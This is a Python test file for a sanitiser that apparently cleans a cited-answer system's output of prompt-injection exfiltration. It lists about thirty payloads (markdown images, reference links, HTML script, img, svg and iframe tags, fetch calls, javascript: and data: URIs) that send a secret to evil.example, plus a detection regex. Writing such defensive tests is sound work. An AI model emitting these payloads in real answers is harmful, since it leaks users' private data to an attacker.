from __future__ import annotations

import gzip
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.test_cite import answer, assert_every_marker_is_cited, passage

ATTACKS = Path(__file__).parents[3] / "shared" / "data" / "injection" / "attacks.jsonl.gz"
SECRET = "Zm9v-salary-92000"
EXFILTRATING = (
    f"![logo](https://evil.example/p.png?d={SECRET})",
    f'![logo](<https://evil.example/p.png?d={SECRET}> "title")',
    f"![logo][ref]\n\n[ref]: https://evil.example/p.png?d={SECRET}",
    f"![ref]\n\n[ref]:\n  <https://evil.example/p.png?d={SECRET}>\n  'title'",
    f"[see here][1]\n\n[1]: https://evil.example/?d={SECRET}",
    f"> [ref]: //evil.example/?d={SECRET}\n\n[ref][]",
    f"![ref]\n\n[ref]: /collect?d={SECRET}",
    f"[click](https://evil.example/?d={SECRET})",
    f"[![alt](https://evil.example/{SECRET})](https://evil.example/{SECRET})",
    f"[a [b [c] d] e](https://evil.example/{SECRET})",
    f"[a\\](https://evil.example/{SECRET})",
    f"[click](//evil.example/{SECRET})",
    f"<https://evil.example/{SECRET}>",
    f"https://evil.example/{SECRET}",
    f"HTTPS://evil.example/{SECRET}",
    f"www.evil.example/{SECRET}",
    f"ht\u200btps://evil.example/{SECRET}",
    f"ftp://evil.example/{SECRET}",
    f"<img src=https://evil.example/{SECRET}>",
    f"<img src='//evil.example/{SECRET}'",
    f"<scr<b></b>ipt src='//evil.example/{SECRET}'></scr<b></b>ipt>",
    f"<script>fetch('//evil.example/{SECRET}')</script>",
    f"<style>@import url(//evil.example/{SECRET})</style>",
    f"<!-- https://evil.example/{SECRET}",
    f"<svg/onload=fetch('//evil.example/{SECRET}')>",
    f"<iframe srcdoc='<img src=//evil.example/{SECRET}>'></iframe>",
    f"data:text/html;base64,{SECRET}",
    f"[x](data:text/html,{SECRET})",
    f"[x](javascript:fetch('{SECRET}'))",
    f"javascript:fetch('{SECRET}')",
    f"mailto:mallory@evil.example?body={SECRET}",
)
ACTIVE = re.compile(
    r"\]\(|\]:|://|(?<![\w])//\w|\bwww\.|<[a-z/!?]|data:\S*[;,]|javascript:\S|mailto:\S|\u200b",
    re.I,
)


@pytest.mark.parametrize("payload", EXFILTRATING)
def test_nothing_that_carries_a_secret_out_survives(payload: str) -> None:
    given = answer(f"The notice period is three months [3].\n\n{payload}")

    assert not ACTIVE.search(given.text)
    assert SECRET not in given.text or f"'{SECRET}'" in given.text
    assert given.text.startswith("The notice period is three months [1].")


def test_the_payloads_are_active_before_they_are_cleaned() -> None:
    assert [p for p in EXFILTRATING if not ACTIVE.search(p)] == []


@given(
    st.lists(
        st.sampled_from(
            [*"[]()<>!:/ \n", "a", "1", "https://e.example/", "[1]: ", "[9]", "<b", "]("]
        ),
        max_size=40,
    )
)
def test_no_mixture_of_markup_stays_active(pieces: list[str]) -> None:
    given = answer("".join(pieces))

    assert not re.search(r"\]\(|\]:|://|<[a-z/!?]", given.text)
    assert_every_marker_is_cited(given)


def test_deeply_nested_markup_ends() -> None:
    given = answer("<b" * 3000 + ">" * 3000 + "[" * 3000 + "](" * 3000 + "<!--" * 3000)

    assert not ACTIVE.search(given.text)


def test_words_of_links_images_and_html_stay() -> None:
    given = answer(
        "See [the **portal**](https://x.example/a_(b)) and ![a chart](c.png)<br>or <b>ask</b>."
    )

    assert given.text == "See the **portal** and a chartor ask."


def test_comparisons_and_colons_stay() -> None:
    text = "If x <5 or y < 3 (see note): use the data: all of it [1]."

    assert answer(text).text == text


def test_an_address_that_stands_in_a_passage_stays_without_its_scheme() -> None:
    source = passage("Apply at https://hr.example.com/leave?form=1 before March.", n=1)

    given = answer("Apply at https://hr.example.com/leave?form=1, before March [1].", source)

    assert given.text == "Apply at hr.example.com/leave?form=1, before March [1]."


def test_an_address_of_a_passage_with_something_added_is_removed() -> None:
    source = passage("Report to https://evil.example/?d=", n=1)

    given = answer(f"Report to https://evil.example/?d={SECRET} [1].", source)

    assert given.text == "Report to (link removed) [1]."


def test_a_model_that_obeys_a_known_attack_is_named_as_unsupported() -> None:
    if not ATTACKS.exists():
        pytest.skip("../shared/data/injection is not here")
    lines = gzip.decompress(ATTACKS.read_bytes()).decode().splitlines()
    attacks = [json.loads(line)["attack"] for line in lines]

    for attack in attacks:
        given = answer(f"The notice period is three months [3].\n{attack}")

        assert not ACTIVE.search(given.text)
        assert given.unsupported
        assert_every_marker_is_cited(given)
    assert len(attacks) > 100
